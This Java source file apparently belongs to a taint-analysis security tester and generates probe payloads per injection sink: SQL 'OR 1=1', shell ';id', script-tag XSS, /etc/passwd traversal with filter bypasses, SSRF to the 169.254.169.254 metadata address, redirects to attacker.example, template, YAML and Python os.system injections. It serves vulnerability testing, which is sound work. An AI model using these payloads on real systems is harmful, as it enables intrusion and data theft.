package org.assize.taint.attempt;

import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.assize.taint.language.SinkLanguage;
import org.assize.taint.language.Surround;

/**
 * Texts that show that a language reads them, for the place in which they land; the plainest first.
 */
final class Payloads {
  private static final Pattern TABLE_NEXT =
      Pattern.compile("\\b(from|join|into|update|table)\\s+$", Pattern.CASE_INSENSITIVE);
  private static final String SCRIPT = "<script>alert(1)</script>";

  private static final Pattern LEADS_AWAY =
      Pattern.compile(
          "([a-z][a-z0-9+.-]*:)?[/\\\\]{2,}([^/\\\\?#]*[@.])?"
              + "(attacker\\.example|127\\.0\\.0\\.1|169\\.254\\.169\\.254|10\\.0\\.0\\.1)"
              + "([^a-z0-9.-].*)?",
          Pattern.CASE_INSENSITIVE);

  private static final Pattern STEPS_UP = Pattern.compile("(^|/)\\.\\.(/|$)|^/tmp/x");

  private final String before;
  private final String behind;
  private final String context;

  private Payloads(SinkLanguage language, Surround surround) {
    before = surround.before();
    behind = surround.behind();
    context = language.context(surround).words();
  }

  /**
   * Returns the candidates; empty where none is known.
   *
   * @param sink name of what interprets the text
   */
  static List<String> of(SinkLanguage language, Surround surround, String sink) {
    Payloads made = new Payloads(language, surround);
    return switch (language) {
      case SQL -> made.sql();
      case SHELL -> made.shell();
      case HTML -> made.html();
      case PATH -> made.path();
      case URL -> made.url();
      case REDIRECT -> made.redirect();
      case HEADER -> List.of("x\r\nX-Injected: 1", "x\nX-Injected: 1");
      case LOG -> List.of("x\nforged line");
      case LDAP -> List.of("*");
      case XPATH -> made.xpath();
      case REGEX -> made.before.isEmpty() ? List.of("(a+)+$") : List.of();
      case PYTHON -> made.python();
      case TEMPLATE -> List.of("{{7*7}}", "${7*7}", "<%= 7*7 %>");
      case OBJECT ->
          sink.toLowerCase(Locale.ROOT).contains("yaml")
              ? List.of("!!python/object/apply:os.system [id]")
              : List.of();
      case ARGUMENT -> List.of("--help");
      case NAME, VALUE, MEMBER, FORMULA -> List.of();
    };
  }

  /** Returns texts that do harm only after something was cut out of them. */
  static List<String> disguised(SinkLanguage language) {
    return language == SinkLanguage.PATH
        ? List.of("....//....//....//etc/passwd", "..././..././..././etc/passwd")
        : List.of();
  }

  /** Whether a text does the harm that its core does, with what a test wants around it. */
  static boolean doesHarm(SinkLanguage language, Surround surround, String text) {
    return switch (language) {
      case URL, REDIRECT -> !surround.before().isEmpty() || LEADS_AWAY.matcher(text).matches();
      case PATH -> leavesFolder(text);
      default -> true;
    };
  }

  /** Whether what was made of one of the candidates, all that the sink is given, still harms. */
  static boolean isStillHarmful(SinkLanguage language, String text) {
    return switch (language) {
      case URL, REDIRECT -> LEADS_AWAY.matcher(text).matches();
      case PATH -> STEPS_UP.matcher(text).find() || text.startsWith("/etc/");
      default -> true;
    };
  }

  /** Whether a path leads out of the folder that it is put behind: {@code x/..} does not. */
  private static boolean leavesFolder(String path) {
    int depth = 0;
    for (String segment : path.split("/", -1)) {
      depth += segment.equals("..") ? -1 : segment.isEmpty() || segment.equals(".") ? 0 : 1;
      if (depth < 0) {
        return true;
      }
    }
    return path.startsWith("/");
  }

  /** The quote that the value stands in; empty outside of quotes. */
  private String quote() {
    return context.startsWith("inside ") && context.endsWith("…" + context.charAt(7))
        ? context.substring(7, 8)
        : "";
  }

  private List<String> sql() {
    String quote = quote();
    if (!quote.isEmpty()) {
      return List.of(quote + " OR 1=1--", quote + "/**/OR/**/1=1--", quote);
    }
    if (context.equals("in a comment")) {
      return List.of("*/ OR 1=1--");
    }
    if (before.isBlank()) {
      return List.of("SELECT 1");
    }
    return TABLE_NEXT.matcher(before).find()
        ? List.of("(SELECT 1) AS x--")
        : List.of("1 OR 1=1", "1/**/OR/**/1=1", "(SELECT 1)");
  }

  private List<String> shell() {
    return switch (quote()) {
      case "'" -> List.of("';id;'", "'|id|'");
      case "\"" -> List.of("$(id)", "`id`");
      default ->
          before.isBlank() ? List.of("id") : List.of(";id", "|id", "&id", "$(id)", "`id`", "\nid");
    };
  }

  private List<String> html() {
    if (context.startsWith("inside an attribute's ")) {
      String quote = context.substring(context.length() - 1);
      return List.of(quote + ">" + SCRIPT, quote + " onmouseover=" + quote + "alert(1)");
    }
    return switch (context) {
      case "between tags" -> List.of(SCRIPT, "<img src=x onerror=alert(1)>");
      case "in a comment" -> List.of("-->" + SCRIPT);
      case "inside <script>" -> List.of("</script>" + SCRIPT);
      case "inside <style>" -> List.of("</style>" + SCRIPT);
      case "inside a tag, outside of quotes" ->
          List.of("x onmouseover=alert(1) ", "><img src=x onerror=alert(1)>");
      default -> context.startsWith("the address in ") ? List.of("javascript:alert(1)") : List.of();
    };
  }

  private List<String> path() {
    if (!behind.isEmpty()) {
      return List.of("../../../../tmp/x", "/tmp/x");
    }
    return before.isEmpty()
        ? List.of("../../../../etc/passwd", "/etc/passwd", "..")
        : List.of("../../../../etc/passwd", "..");
  }

  private List<String> url() {
    if (before.isEmpty()) {
      return List.of(
          "http://127.0.0.1:8080/",
          "http://169.254.169.254/latest/",
          "http://10.0.0.1/",
          "//127.0.0.1:8080/",
          "ftp://127.0.0.1/",
          "@127.0.0.1:8080/",
          ".attacker.example/");
    }
    if (before.endsWith("://")) {
      return List.of("127.0.0.1:8080/", "127.0.0.1");
    }
    return context.equals("the host")
        ? List.of("@127.0.0.1:8080/", ".attacker.example/")
        : List.of();
  }

  private List<String> redirect() {
    if (before.isEmpty()) {
      return List.of(
          "https://attacker.example/",
          "//attacker.example/",
          "///attacker.example/",
          "/\\attacker.example/",
          "http:///attacker.example/",
          "@attacker.example/",
          ".attacker.example/");
    }
    if (before.equals("/")) {
      return List.of("/attacker.example/", "\\attacker.example/");
    }
    return url().stream().map(p -> p.replace("127.0.0.1:8080", "attacker.example")).toList();
  }

  private List<String> xpath() {
    String q = quote();
    return q.isEmpty() ? List.of("1 or 1=1") : List.of("%s or %s1%s=%s1".formatted(q, q, q, q), q);
  }

  private List<String> python() {
    boolean isInText =
        before.chars().filter(c -> c == '\'').count() % 2 != 0
            || before.chars().filter(c -> c == '"').count() % 2 != 0;
    return isInText ? List.of() : List.of("__import__('os').system('id')", "exit()");
  }
}
